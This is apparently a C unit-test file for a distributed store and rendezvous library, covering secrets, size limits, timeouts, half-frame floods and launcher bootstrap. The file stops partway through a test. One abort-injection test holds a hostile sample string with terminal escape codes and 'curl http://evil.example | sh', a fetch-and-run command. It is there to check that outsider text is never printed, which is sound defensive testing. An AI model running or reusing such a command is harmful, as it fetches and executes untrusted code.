	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "hex"));
	CU_ASSERT_PTR_NULL(strstr(gx_last_error(), "hunter2"));
	CU_ASSERT_EQUAL(gx_store_connect("127.0.0.1:1", "abc", 100, &c), GX_ERR_INVAL);
	struct gx_store_server_opts so = { .secret = "xyz" };
	CU_ASSERT_EQUAL(gx_store_server_start("127.0.0.1:0", &so, &srv), GX_ERR_INVAL);
	CU_ASSERT_PTR_NULL(srv);

	/* a bad GX_STORE_SECRET is a bad setting; and it is never taken from the command line */
	setenv("GX_STORE_SECRET", "not-hex-at-all", 1);
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_STORE_SECRET"));
	setenv("GX_STORE_SECRET", SECRET_A, 1);
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_OK);
	unsetenv("GX_STORE_SECRET");
	char *argv[] = { "prog", "--store-secret", SECRET_A, NULL };
	int argc = 3;
	CU_ASSERT_EQUAL(gx_config_parse(&argc, argv, &o), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "command line"));

	/* gx-store: flags, the secret, the address it listens on */
	gx_test_path(bin, sizeof(bin), 1, "apps/gx-store");
	snprintf(cmd, sizeof(cmd), "%s --bogus", bin);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 2);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "unknown flag '--bogus'"));
	snprintf(cmd, sizeof(cmd), "%s --port", bin);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 2);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "missing value for --port"));
	snprintf(cmd, sizeof(cmd), "env -u GX_STORE GX_STORE_SECRET=12ab %s --port 0 --timeout-ms 1", bin);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 2);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "GX_STORE_SECRET"));
	/* not 0.0.0.0 unless asked: 127.0.0.1 by default, GX_STORE's host when set */
	snprintf(cmd, sizeof(cmd), "env -u GX_STORE -u GX_STORE_SECRET %s --port 0 --timeout-ms 1", bin);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 0);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "serving on 127.0.0.1:"));
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "no secret"));
	snprintf(cmd, sizeof(cmd), "env -u GX_STORE_SECRET GX_STORE=localhost:0 %s --timeout-ms 1", bin);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 0);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "serving on localhost:"));
	snprintf(file, sizeof(file), "/tmp/gx-test-secret.%d", (int)getpid());
	FILE *f = fopen(file, "w");
	CU_ASSERT_PTR_NOT_NULL_FATAL(f);
	fprintf(f, "  %s\n", SECRET_A);
	fclose(f);
	snprintf(cmd, sizeof(cmd), "env -u GX_STORE %s --port 0 --secret-file %s --timeout-ms 1", bin, file);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 0);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "must prove the job's secret"));
	f = fopen(file, "w");
	fprintf(f, "0123\n");
	fclose(f);
	CU_ASSERT_EQUAL(run_cmd(cmd, out, sizeof(out)), 2);
	CU_ASSERT_PTR_NOT_NULL(strstr(out, "--secret-file"));
	unlink(file);
}

static void test_limits(void)
{
	char addr[64], key[64], val[200], buf[200];
	size_t len;
	struct gx_store_server_opts o = { .secret = "", .max_key_len = 16, .max_value_len = 100,
					  .max_keys = 5, .max_bytes = 450, .max_buffered = 4096,
					  .max_clients = 2 };
	struct gx_store_server_stats st;
	struct gx_store *s = NULL, *s2 = NULL, *s3 = (struct gx_store *)1;

	log_start();
	struct gx_store_server *srv = start_server_opts(&o, addr, sizeof(addr));
	CU_ASSERT_EQUAL_FATAL(gx_store_connect(addr, "", 2000, &s), GX_OK);
	memset(val, 'x', sizeof(val));
	/* key and value sizes */
	CU_ASSERT_EQUAL(gx_store_set(s, "seventeen-bytes!!", "v", 1), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "refuses keys over 16 bytes (this one has 17)"));
	CU_ASSERT_EQUAL(gx_store_get(s, "seventeen-bytes!!", buf, sizeof(buf), &len, 0), GX_ERR_INVAL);
	CU_ASSERT_EQUAL(gx_store_set(s, "big", val, 101), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "refuses values over 100 bytes (this one has 101)"));
	/* bytes held: 64 + key + value each */
	CU_ASSERT_EQUAL(gx_store_set(s, "a", val, 100), GX_OK);      /* 165 */
	CU_ASSERT_EQUAL(gx_store_set(s, "b", val, 100), GX_OK);      /* 330 */
	CU_ASSERT_EQUAL(gx_store_set(s, "c", val, 100), GX_ERR_NOSPC);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "is full: 165 more bytes would exceed its limit of 450 bytes held"));
	CU_ASSERT_EQUAL(gx_store_set(s, "b", val, 10), GX_OK);       /* 240: overwriting frees */
	/* number of keys */
	for (int i = 0; i < 3; i++) {
		snprintf(key, sizeof(key), "k%d", i);
		CU_ASSERT_EQUAL(gx_store_set(s, key, "", 0), GX_OK);
	}
	CU_ASSERT_EQUAL(gx_store_set(s, "k3", "", 0), GX_ERR_NOSPC);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "holds its limit of 5 keys"));
	int64_t v = 0;
	CU_ASSERT_EQUAL(gx_store_add(s, "ctr", 1, &v), GX_ERR_NOSPC);
	/* refusals leave the connection working */
	CU_ASSERT_EQUAL(gx_store_get(s, "a", buf, sizeof(buf), &len, 0), GX_OK);
	CU_ASSERT_EQUAL(len, 100);
	stats_when(srv, &st, limits_at_least, 6);
	CU_ASSERT_EQUAL(st.refused_limits, 6);
	CU_ASSERT_EQUAL(st.keys, 5);
	CU_ASSERT_EQUAL(st.bytes_held, 165 + 75 + 3 * 66);
	CU_ASSERT(log_has("refused"));
	/* connections: the third client is told the store is at its limit (after its timeout) */
	CU_ASSERT_EQUAL(gx_store_connect(addr, "", 2000, &s2), GX_OK);
	CU_ASSERT_EQUAL(gx_store_connect(addr, "", 300, &s3), GX_ERR_TIMEOUT);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "already serves its limit of 2 clients"));
	CU_ASSERT_PTR_NULL(strstr(gx_last_error(), "exit?"));
	gx_store_destroy(s2);
	/* buffers: a 4000-byte request does not fit 4096 bytes past the free 1 KiB ... almost; 60 KiB not */
	static char big[60000];
	CU_ASSERT_EQUAL(gx_store_set(s, "a", big, sizeof(big)), GX_ERR_AGAIN);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "no buffer room"));
	CU_ASSERT_PTR_NULL(strstr(gx_last_error(), "exit?"));
	gx_store_destroy(s);
	gx_store_server_destroy(srv, 0);
	log_stop();
}

static int closed_as(int fd, uint8_t reason, int ms)
{
	uint8_t b[128];
	long n;
	while ((n = raw_frame(fd, b, sizeof(b), ms)) > 0)
		if (n == 6 && b[0] == 5)
			return b[1] == reason && raw_frame(fd, b, sizeof(b), ms) == 0;
	return 0;
}

static void test_timeouts(void)
{
	char addr[64], buf[16];
	size_t len;
	struct gx_store_server_opts o = { .secret = "", .handshake_ms = 200, .frame_ms = 300, .idle_ms = 300 };
	struct gx_store_server_stats st, before;
	struct gx_store *s = NULL;
	struct gx_store_server *srv = start_server_opts(&o, addr, sizeof(addr));
	uint16_t port = gx_store_server_port(srv);

	/* a connection that never authenticates is closed after the handshake limit, saying so */
	int fd = raw_connect(port);
	uint64_t t0 = gx_now_ns();
	CU_ASSERT(closed_as(fd, 3, 3000));
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt >= 150 && dt < 1500);
	close(fd);
	/* half a frame: closed after the frame limit */
	fd = raw_client(port);
	CU_ASSERT_FATAL(fd >= 0);
	CU_ASSERT_EQUAL(send(fd, "\x64\x00\x00\x00\x53\x58\x01\x00\x01\x00", 10, MSG_NOSIGNAL), 10);
	t0 = gx_now_ns();
	CU_ASSERT(closed_as(fd, 2, 3000));
	dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt >= 250 && dt < 1500);
	close(fd);
	stats_when(srv, &st, partial_at_least, 1);
	CU_ASSERT_EQUAL(st.handshake_timeouts, 1);
	CU_ASSERT_EQUAL(st.partial_closed, 1);
	/* an idle client is closed; ours reconnects by itself on its next request */
	CU_ASSERT_EQUAL_FATAL(gx_store_connect(addr, "", 2000, &s), GX_OK);
	CU_ASSERT_EQUAL(gx_store_set(s, "k", "v", 1), GX_OK);
	sleep_ms(500);
	stats_when(srv, &st, idle_at_least, 1);
	CU_ASSERT_EQUAL(st.idle_closed, 1);
	CU_ASSERT_EQUAL(st.clients, 0);
	CU_ASSERT_EQUAL(st.authenticated, 2);     /* the half-frame client and ours */
	CU_ASSERT_EQUAL(gx_store_get(s, "k", buf, sizeof(buf), &len, 0), GX_OK);
	stats_when(srv, &before, auth_at_least, 3);
	CU_ASSERT_EQUAL(before.authenticated, 3);
	/* a client waiting for a key is not idle */
	const char *k[1] = { "never" };
	t0 = gx_now_ns();
	CU_ASSERT_EQUAL(gx_store_wait(s, k, 1, NULL, 800, NULL, NULL), GX_ERR_TIMEOUT);
	CU_ASSERT((gx_now_ns() - t0) / 1000000 >= 750);
	CU_ASSERT_EQUAL(gx_store_set(s, "k2", "v", 1), GX_OK);
	gx_store_server_stats(srv, &st);
	CU_ASSERT_EQUAL(st.idle_closed, 1);
	CU_ASSERT_EQUAL(st.authenticated, 3);
	gx_store_destroy(s);
	gx_store_server_destroy(srv, 0);
}

/* 400 connections each send half of a 1 MiB frame and stop: the store's memory stays bounded. */
static void half_frames(const char *secret)
{
	enum { N = 400, HALF = 512 * 1024 };
	struct gx_store_server_opts o = { .secret = secret };
	struct gx_store_server_stats st;
	struct store_proc sp;
	static uint8_t chunk[4 + HALF];
	int fds[N];
	size_t sent[N];

	CU_ASSERT_FATAL(fd_limit(N + 256) >= N + 64);
	store_proc_start(&sp, &o);
	long before = rss_of(sp.pid);
	/* a frame header announcing 1 MiB, then half of it */
	chunk[0] = 0; chunk[1] = 0; chunk[2] = 0x10; chunk[3] = 0;
	memset(chunk + 4, 0x53, HALF);
	int authed = 0;
	for (int i = 0; i < N; i++) {
		fds[i] = secret[0] ? raw_connect(sp.port) : raw_client(sp.port);
		authed += fds[i] >= 0;
		sent[i] = 0;
		if (fds[i] >= 0)
			fcntl(fds[i], F_SETFL, O_NONBLOCK);
	}
	CU_ASSERT_EQUAL(authed, N);
	uint64_t until = gx_now_ns() + 10000000000ull;
	for (int busy = 1; busy && gx_now_ns() < until;) {
		busy = 0;
		for (int i = 0; i < N; i++) {
			if (fds[i] < 0 || sent[i] == sizeof(chunk))
				continue;
			ssize_t w = send(fds[i], chunk + sent[i], sizeof(chunk) - sent[i], MSG_NOSIGNAL);
			if (w > 0)
				sent[i] += (size_t)w;
			else if (w < 0 && errno != EAGAIN && errno != EWOULDBLOCK)
				sent[i] = sizeof(chunk);     /* the store closed it: done */
			busy |= sent[i] < sizeof(chunk);
		}
		if (busy)
			sleep_ms(1);
	}
	sleep_ms(300);        /* let the store read what reached it */
	store_proc_stats(&sp, &st);
	long after = rss_of(sp.pid);
	fprintf(stderr, "\n    %s: store RSS %+ld KiB, buffers %llu KiB, %llu refused for room, %llu "
		"dropped as malformed, %u clients holding half a frame\n", secret[0] ? "secret" : "no secret",
		(after - before) / 1024, (unsigned long long)st.buffered / 1024,
		(unsigned long long)st.refused_limits, (unsigned long long)st.bad_requests, st.clients);
	/* the default limit: 64 MiB past the first KiB of each buffer */
	CU_ASSERT(st.buffered <= (64ull << 20) + 2ull * 1024 * (N + 16));
	CU_ASSERT(before > 0 && after > 0);
#ifndef __SANITIZE_ADDRESS__
	/* (AddressSanitizer keeps freed memory in quarantine: there the accounting above must do) */
	CU_ASSERT(after - before < (96l << 20));
#endif
	if (secret[0])
		CU_ASSERT_EQUAL(st.bad_requests, N)     /* the frame is not a handshake: dropped at once */
	else
		CU_ASSERT(st.refused_limits > 0 && st.clients < N);   /* 200 MiB sent, 64 MiB kept */
	/* and a real client still gets in and is served */
	for (int i = 0; i < N; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	struct gx_store *c = NULL;
	CU_ASSERT_EQUAL(gx_store_connect(sp.addr, secret, 3000, &c), GX_OK);
	if (c)
		CU_ASSERT_EQUAL(gx_store_set(c, "after", "ok", 2), GX_OK);
	gx_store_destroy(c);
	store_proc_stop(&sp);
}

static void test_half_frames(void)
{
	half_frames("");
	half_frames(SECRET_A);
}

/* A forked client whose wait (mode 0) or connect retries (mode 1) a signal ends. */
struct intr_arg {
	unsigned ms;
};

static void *interrupter(void *arg)
{
	sleep_ms(((struct intr_arg *)arg)->ms);
	gx_interrupt(SIGINT);
	return NULL;
}

static void test_interrupted(void)
{
	char addr[64], nobody[64];
	struct gx_store_server *srv = start_server(addr, sizeof(addr));

	snprintf(nobody, sizeof(nobody), "127.0.0.1:%u", gx_test_free_port());
	for (int mode = 0; mode < 2; mode++) {
		pid_t pid = fork();
		if (pid == 0) {
			struct gx_store *s = NULL;
			struct intr_arg a = { 200 };
			pthread_t th;
			gx_status_t st;
			if (mode == 0 && gx_store_connect(addr, "", 2000, &s) < 0)
				_exit(10);
			pthread_create(&th, NULL, interrupter, &a);
			uint64_t t0 = gx_now_ns();
			const char *k[1] = { "never" };
			st = mode == 0 ? gx_store_wait(s, k, 1, NULL, 20000, NULL, NULL) :
					 gx_store_connect(nobody, "", 20000, &s);
			uint64_t dt = (gx_now_ns() - t0) / 1000000;
			if (st != GX_ERR_INTERRUPTED || !strstr(gx_last_error(), "SIGINT"))
				_exit(11);
			_exit(dt < 150 || dt > 1500 ? 12 : 0);
		}
		int status = -1;
		waitpid(pid, &status, 0);
		if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
			fprintf(stderr, "\n    mode %d: child status %d\n", mode, status);
		CU_ASSERT(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	}
	gx_store_server_destroy(srv, 0);
}

/* ---- bootstrap rules ---------------------------------------------------------------------- */
static const char *const launcher_vars[] = {
	"GX_RANK", "GX_SIZE", "GX_LOCAL_RANK", "GX_LOCAL_SIZE", "GX_STORE", "GX_STORE_SERVE", "GX_STORE_EXTERNAL",
	"GX_JOB_ID", "SLURM_PROCID", "SLURM_NTASKS", "SLURM_NPROCS", "SLURM_LOCALID",
	"SLURM_NTASKS_PER_NODE", "SLURM_JOB_ID", "OMPI_COMM_WORLD_RANK", "OMPI_COMM_WORLD_SIZE",
	"OMPI_COMM_WORLD_LOCAL_RANK", "OMPI_COMM_WORLD_LOCAL_SIZE", "PMI_RANK", "PMI_SIZE",
	"MPI_LOCALRANKID", "MPI_LOCALNRANKS",
};

static void clear_env(void)
{
	for (size_t i = 0; i < sizeof(launcher_vars) / sizeof(launcher_vars[0]); i++)
		unsetenv(launcher_vars[i]);
}

static void test_bootstrap_env(void)
{
	struct gx_comm_opts o;
	struct gx_boot b;

	clear_env();
	gx_comm_opts_default(&o);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_RANK"));
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "srun"));

	setenv("GX_RANK", "2", 1);
	setenv("GX_SIZE", "4", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.rank, 2);
	CU_ASSERT_EQUAL(b.size, 4);
	CU_ASSERT_STRING_EQUAL(b.store, "127.0.0.1:29500");
	CU_ASSERT_EQUAL(b.serve, 0);
	CU_ASSERT_EQUAL(b.local_rank, -1);

	/* flags beat the environment */
	o.rank = 0;
	o.size = 3;
	o.store = "10.0.0.1:4000";
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.rank, 0);
	CU_ASSERT_EQUAL(b.size, 3);
	CU_ASSERT_EQUAL(b.serve, 1);
	CU_ASSERT_STRING_EQUAL(b.store, "10.0.0.1:4000");
	/* settings from the environment come through the settings table (gx_config_parse) */
	setenv("GX_STORE_SERVE", "0", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.serve, 1);
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_OK);
	o.rank = 0;
	o.size = 3;
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.serve, 0);
	unsetenv("GX_STORE_SERVE");
	setenv("GX_STORE_EXTERNAL", "1", 1);       /* what gx-run --external-store sets */
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_OK);
	o.rank = 0;
	o.size = 3;
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.serve, 0);
	setenv("GX_STORE_EXTERNAL", "yes", 1);     /* a bad value is named */
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_STORE_EXTERNAL"));
	unsetenv("GX_STORE_EXTERNAL");

	/* Slurm */
	clear_env();
	gx_comm_opts_default(&o);
	setenv("SLURM_PROCID", "5", 1);
	setenv("SLURM_NTASKS", "8", 1);
	setenv("SLURM_LOCALID", "1", 1);
	setenv("SLURM_NTASKS_PER_NODE", "2(x4)", 1);
	setenv("SLURM_JOB_ID", "777", 1);
	setenv("GX_STORE", "node0:29600", 1);
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_OK);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.rank, 5);
	CU_ASSERT_EQUAL(b.size, 8);
	CU_ASSERT_EQUAL(b.local_rank, 1);
	CU_ASSERT_EQUAL(b.local_size, 2);
	CU_ASSERT_EQUAL(b.job_id, 777);
	CU_ASSERT_STRING_EQUAL(b.store, "node0:29600");
	CU_ASSERT_STRING_EQUAL(b.source, "Slurm");

	/* Open MPI */
	clear_env();
	setenv("OMPI_COMM_WORLD_RANK", "1", 1);
	setenv("OMPI_COMM_WORLD_SIZE", "2", 1);
	setenv("OMPI_COMM_WORLD_LOCAL_RANK", "1", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.rank, 1);
	CU_ASSERT_EQUAL(b.size, 2);
	CU_ASSERT_EQUAL(b.local_rank, 1);
	CU_ASSERT_STRING_EQUAL(b.source, "Open MPI");

	/* PMI (MPICH / Hydra) */
	clear_env();
	setenv("PMI_RANK", "0", 1);
	setenv("PMI_SIZE", "3", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_OK);
	CU_ASSERT_EQUAL(b.rank, 0);
	CU_ASSERT_EQUAL(b.size, 3);
	CU_ASSERT_EQUAL(b.serve, 1);
	CU_ASSERT_STRING_EQUAL(b.source, "PMI");

	/* errors: malformed, rank >= size, bad store address */
	clear_env();
	setenv("GX_RANK", "x1", 1);
	setenv("GX_SIZE", "2", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "GX_RANK='x1'"));
	setenv("GX_RANK", "2", 1);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "not below the world size"));
	setenv("GX_RANK", "1", 1);
	setenv("GX_STORE", "nocolon", 1);
	CU_ASSERT_EQUAL(gx_comm_opts_default(&o), GX_OK);
	CU_ASSERT_EQUAL(gx_bootstrap_resolve(&o, &b), GX_ERR_INVAL);
	CU_ASSERT_PTR_NOT_NULL(strstr(gx_last_error(), "host:port"));
	clear_env();
}

/* ---- rendezvous through gx_comm_create with forked ranks --------------------------------------- */
/* Child: init as rank r of n (size override: world size this rank believes), write the outcome
 * (status + message) to fd, exit. */
struct rv_case {
	int n;                 /* processes to start */
	int sizes[8];          /* world size each rank is told */
	int delay_ms[8];       /* start-up delay per rank */
	int present[8];        /* 0: this rank is never started */
	uint32_t timeout_ms;
};

struct rv_result {
	gx_status_t st;
	uint32_t rank, size;
	char msg[480];
};

/* secret: the rank's GX_STORE_SECRET ("" none); NULL: as inherited. */
static void rv_child(const char *store, int r, int size, int delay, uint32_t timeout_ms, int fd,
		     const char *secret)
{
	struct gx_comm_opts o;
	struct rv_result res = { 0 };

	if (secret && secret[0])
		setenv("GX_STORE_SECRET", secret, 1);
	else if (secret)
		unsetenv("GX_STORE_SECRET");
	sleep_ms((unsigned)delay);
	gx_comm_opts_default(&o);
	o.rank = r;
	o.size = size;
	o.store = store;
	o.store_serve = 0;
	o.store_timeout_ms = timeout_ms;
	gx_transport_opts_set(&o.tr, "udp-ip", "127.0.0.1");
	struct gx_comm *c = NULL;
	if (gx_comm_create(&o, &c) < 0) {
		res.st = -1;    /* the message is in gx_last_error() */
		snprintf(res.msg, sizeof(res.msg), "%s", gx_last_error());
	} else {
		res.rank = gx_comm_rank(c);
		res.size = gx_comm_size(c);
		gx_comm_destroy(c);
	}
	if (write(fd, &res, sizeof(res)) != sizeof(res))
		_exit(3);
	_exit(0);
}

/* Runs the case against an external store (so a test may kill it); res[r] per started rank. */
static void rv_run(const struct rv_case *k, struct rv_result *res, pid_t *store_pid_out,
		   unsigned kill_store_after_ms)
{
	int pfd[2], sp[2];
	uint16_t port = 0;
	char store[64];
	pid_t pids[8], store_pid;
	int fds[8];

	CU_ASSERT_FATAL(pipe(sp) == 0);
	store_pid = fork();
	if (store_pid == 0) {
		struct gx_store_server *srv = NULL;
		gx_store_server_create("127.0.0.1:0", 0, &srv);
		uint16_t p = srv ? gx_store_server_port(srv) : 0;
		if (write(sp[1], &p, sizeof(p)) != sizeof(p))
			_exit(1);
		for (;;)
			pause();
	}
	CU_ASSERT_FATAL(read(sp[0], &port, sizeof(port)) == sizeof(port));
	close(sp[0]);
	close(sp[1]);
	snprintf(store, sizeof(store), "127.0.0.1:%u", port);
	if (store_pid_out)
		*store_pid_out = store_pid;
	for (int r = 0; r < k->n; r++) {
		res[r].st = 1;
		if (!k->present[r])
			continue;
		CU_ASSERT_FATAL(pipe(pfd) == 0);
		pids[r] = fork();
		if (pids[r] == 0) {
			close(pfd[0]);
			rv_child(store, r, k->sizes[r], k->delay_ms[r], k->timeout_ms, pfd[1], NULL);
		}
		close(pfd[1]);
		fds[r] = pfd[0];
	}
	if (kill_store_after_ms) {
		sleep_ms(kill_store_after_ms);
		kill(store_pid, SIGKILL);
	}
	for (int r = 0; r < k->n; r++) {
		if (!k->present[r])
			continue;
		int fd = fds[r];
		if (read(fd, &res[r], sizeof(res[r])) != sizeof(res[r])) {
			res[r].st = 99;
			snprintf(res[r].msg, sizeof(res[r].msg), "rank %d died without a result", r);
		}
		close(fd);
		waitpid(pids[r], NULL, 0);
	}
	kill(store_pid, SIGKILL);
	waitpid(store_pid, NULL, 0);
}

static void test_rv_ok_and_late(void)
{
	/* 4 ranks, rank 2 starts 700 ms late: everyone still meets */
	struct rv_case k = { .n = 4, .sizes = { 4, 4, 4, 4 }, .delay_ms = { 0, 0, 700, 0 },
			     .present = { 1, 1, 1, 1 }, .timeout_ms = 10000 };
	struct rv_result res[8];

	rv_run(&k, res, NULL, 0);
	for (int r = 0; r < 4; r++) {
		if (res[r].st != GX_OK)
			fprintf(stderr, "rank %d: %s\n", r, res[r].msg);
		CU_ASSERT_EQUAL(res[r].st, GX_OK);
		CU_ASSERT_EQUAL(res[r].rank, (uint32_t)r);
		CU_ASSERT_EQUAL(res[r].size, 4);
	}
}

static void test_rv_missing_rank(void)
{
	/* rank 3 of 4 is never started: every other rank names it after the timeout */
	struct rv_case k = { .n = 4, .sizes = { 4, 4, 4, 4 }, .present = { 1, 1, 1, 0 },
			     .timeout_ms = 800 };
	struct rv_result res[8];
	uint64_t t0 = gx_now_ns();

	rv_run(&k, res, NULL, 0);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt < 6000);
	fprintf(stderr, "\n    rank 0 says: %s\n", res[0].msg);
	for (int r = 0; r < 3; r++) {
		CU_ASSERT(res[r].st < 0);
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "rank 3 of 4 never joined the store at 127.0.0.1:"));
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "within 800 ms"));
	}
}

static void test_rv_wrong_size(void)
{
	/* rank 2 believes the world has 4 ranks, the others 3: every rank fails with a clear message
	 * (well before the 20 s timeout) */
	struct rv_case k = { .n = 3, .sizes = { 3, 3, 4 }, .present = { 1, 1, 1 }, .timeout_ms = 20000 };
	struct rv_result res[8];
	uint64_t t0 = gx_now_ns();

	rv_run(&k, res, NULL, 0);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt < 10000);
	fprintf(stderr, "\n    rank 0 says: %s\n    rank 2 says: %s\n", res[0].msg, res[2].msg);
	for (int r = 0; r < 3; r++) {
		CU_ASSERT(res[r].st < 0);
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "wrong world size"));
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "GX_SIZE"));
	}
}

static void test_rv_store_dies(void)
{
	/* 3 ranks, rank 2 never comes; the store is killed 300 ms in: ranks 0 and 1 fail at once with
	 * a lost-connection error, not after the 20 s timeout */
	struct rv_case k = { .n = 3, .sizes = { 3, 3, 3 }, .present = { 1, 1, 0 }, .timeout_ms = 20000 };
	struct rv_result res[8];
	uint64_t t0 = gx_now_ns();

	rv_run(&k, res, NULL, 300);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	CU_ASSERT(dt < 8000);
	fprintf(stderr, "\n    rank 0 says: %s\n", res[0].msg);
	for (int r = 0; r < 2; r++) {
		CU_ASSERT(res[r].st < 0);
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "store"));
		CU_ASSERT(strstr(res[r].msg, "lost the connection") || strstr(res[r].msg, "closed the connection"));
	}
}

static void test_rv_duplicate_rank(void)
{
	/* two processes both claim rank 1 (ranks 0,1,1 of a world of 3): the duplicate is named */
	struct gx_store_server *srv;
	char addr[64];
	int pfd[2], fds[3];
	pid_t pids[3];
	struct rv_result res[3];
	int ranks[3] = { 0, 1, 1 };

	srv = start_server(addr, sizeof(addr));
	for (int i = 0; i < 3; i++) {
		CU_ASSERT_FATAL(pipe(pfd) == 0);
		if ((pids[i] = fork()) == 0) {
			close(pfd[0]);
			rv_child(addr, ranks[i], 3, i == 2 ? 200 : 0, 1500, pfd[1], NULL);
		}
		close(pfd[1]);
		fds[i] = pfd[0];
	}
	for (int i = 0; i < 3; i++) {
		if (read(fds[i], &res[i], sizeof(res[i])) != sizeof(res[i]))
			res[i].st = 99;
		close(fds[i]);
		waitpid(pids[i], NULL, 0);
	}
	int named = 0;
	fprintf(stderr, "\n    %s\n    %s\n    %s\n", res[0].msg, res[1].msg, res[2].msg);
	for (int i = 0; i < 3; i++)
		if (strstr(res[i].msg, "rank 1 was started more than once"))
			named++;
	CU_ASSERT(named >= 1);
	for (int i = 0; i < 3; i++)
		CU_ASSERT(res[i].st < 0);
	gx_store_server_destroy(srv, 0);
}

/* Fork rank r (told `size` ranks) with its GX_STORE_SECRET; its result comes on *fd. */
static pid_t rv_spawn(const char *store, int r, int size, int delay_ms, uint32_t timeout_ms,
		      const char *secret, int *fd)
{
	int pfd[2];

	CU_ASSERT_FATAL(pipe(pfd) == 0);
	pid_t pid = fork();
	if (pid == 0) {
		close(pfd[0]);
		rv_child(store, r, size, delay_ms, timeout_ms, pfd[1], secret);
	}
	close(pfd[1]);
	*fd = pfd[0];
	return pid;
}

static void rv_collect(pid_t pid, int fd, int r, struct rv_result *res)
{
	if (read(fd, res, sizeof(*res)) != sizeof(*res)) {
		res->st = 99;
		snprintf(res->msg, sizeof(res->msg), "rank %d died without a result", r);
	}
	close(fd);
	waitpid(pid, NULL, 0);
}

static void test_rv_abort_injection(void)
{
	/* Without a secret an outsider can reach the store and write the abort key while ranks 0 and 1
	 * wait for rank 2: the ranks stop, but what they print is built from numbers, never its text. */
	static const uint32_t forged[3] = { 0x41525847u, 7, 3 };   /* "rank 7, wrong world size" */
	static const char words[] = "\033[2J\033[31mPWNED: curl http://evil.example | sh";
	const struct { const void *val; size_t len; const char *want; } cases[2] = {
		{ words, sizeof(words) - 1, "not by a rank of this gx" },
		{ forged, sizeof(forged), "rank 7 aborted the rendezvous: wrong world size" },
	};
	struct gx_store_server_opts none = { .secret = "" }, with = { .secret = SECRET_A };
	struct store_proc sp;
	struct rv_result res[3];
	pid_t pids[3];
	int fds[3];

	for (int k = 0; k < 2; k++) {
		store_proc_start(&sp, &none);
		for (int r = 0; r < 2; r++)
			pids[r] = rv_spawn(sp.addr, r, 3, 0, 8000, "", &fds[r]);
		sleep_ms(500);
		struct gx_store *c = NULL;
		uint64_t t0 = gx_now_ns();
		CU_ASSERT_EQUAL(gx_store_connect(sp.addr, "", 2000, &c), GX_OK);
		if (c)
			CU_ASSERT_EQUAL(gx_store_set(c, "gx/0/1/abort", cases[k].val, cases[k].len), GX_OK);
		gx_store_destroy(c);
